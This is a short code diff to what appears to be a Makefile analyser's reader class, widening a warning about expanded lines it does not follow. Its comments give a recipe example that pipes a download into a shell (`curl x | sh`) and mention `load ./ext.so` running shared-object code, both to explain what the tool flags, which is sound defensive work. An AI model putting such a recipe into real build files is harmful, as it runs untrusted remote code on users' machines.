@@ -242,10 +242,10 @@ class Reader {
     if (colon < 0) {
       // A line that is only a function call (`$(eval ...)`, `$(info ...)`): expanded for its effects.
       // make reads the text it expands to as a line of the Makefile: `$(R)` with `R := test: ; curl x | sh`
-      // is a rule (it replaces test's recipe). Text left after the expansion is a rule or an assignment
-      // this reader did not see: unknown.
+      // is a rule (it replaces test's recipe). Text left after the expansion is a rule, an assignment or a
+      // directive this reader does not follow (`load ./ext.so` runs a shared object's code): unknown.
       const left = expand(text, this.ctx(where)).trim();
-      if (left) this.db.problems.push({ why: `${where.file}:${where.line}: the line ${text.trim().slice(0, 80)} expands to text make reads as a rule or an assignment (${left.slice(0, 80)}), which is not followed`, where });
+      if (left) this.db.problems.push({ why: `${where.file}:${where.line}: the line ${text.trim().slice(0, 80)} expands to text make reads as a rule, an assignment or a directive (${left.slice(0, 80)}), which is not followed`, where });
       return undefined;
     }
     return this.rule(text, colon, where);
